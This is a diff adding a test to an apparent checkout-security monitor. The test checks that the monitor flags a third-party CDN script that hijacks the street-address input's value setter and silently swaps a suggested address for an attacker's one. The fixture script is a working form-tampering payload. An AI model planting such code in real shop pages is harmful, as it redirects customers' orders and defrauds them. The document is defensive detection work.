@@ -251,6 +251,37 @@ describeEachBrowser('sensors-rest: checkout', (context) => {
     expect(verdict.finding.actor.url).toBe(`https://${HELPER_CDN}/replay.js`);
   });
 
+  it("catches a helper's own accessor on the street rewriting what the shop's suggestions write through it, and names it", async ({
+    task,
+  }) => {
+    context.shop.setFixture(
+      STATIC.checkout,
+      `${CHECKOUT_JS}\n${SUGGESTIONS_AND_MAP}\n(function () { var s = document.createElement('script'); s.src = 'https://${HELPER_CDN}/setter.js'; document.head.appendChild(s); })();`,
+      { contentType: 'text/javascript' },
+    );
+    context.shop.setFixture(
+      '/setter.js',
+      `(function () {
+  var street = document.querySelector('input[autocomplete="street-address"]');
+  var native = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
+  Object.defineProperty(street, 'value', {
+    configurable: true,
+    get: function () { return native.get.call(this); },
+    set: function (v) { native.set.call(this, String(v).indexOf('Абая') >= 0 ? 'ул. Чужая, д. 13, кв. 666' : v); },
+  });
+})();`,
+      { host: HELPER_CDN, contentType: 'text/javascript' },
+    );
+    const saq = await saqBrowser();
+    const { page, tabId } = await atCheckout(saq, context.shop);
+    await typeStreet(page, 'Abay 10');
+    await page.click('ul.suggestions li');
+    await pollPage(page, () => (window as { __suggested?: boolean }).__suggested === true, undefined, 'the suggestion taken');
+    await deliveryCaught(saq, tabId, task, "street rewritten by a helper's accessor as the shop's suggestions write it", 'address');
+    const verdict = (await rulesFire(saq, tabId, ['SAQ-CHK-002']))!.find((v) => v.ruleId === 'SAQ-CHK-002')!;
+    expect(verdict.finding.actor.url).toBe(`https://${HELPER_CDN}/setter.js`);
+  });
+
   it("catches the pickup branch switched from a module a helper made from a blob (the shop's origin in its address)", async ({ task }) => {
     const code = `var b = document.querySelector('[data-role="pickup-branch"]'); b.value = 'oskemen'; b.dispatchEvent(new Event('change', { bubbles: true }));`;
     context.shop.setFixture(
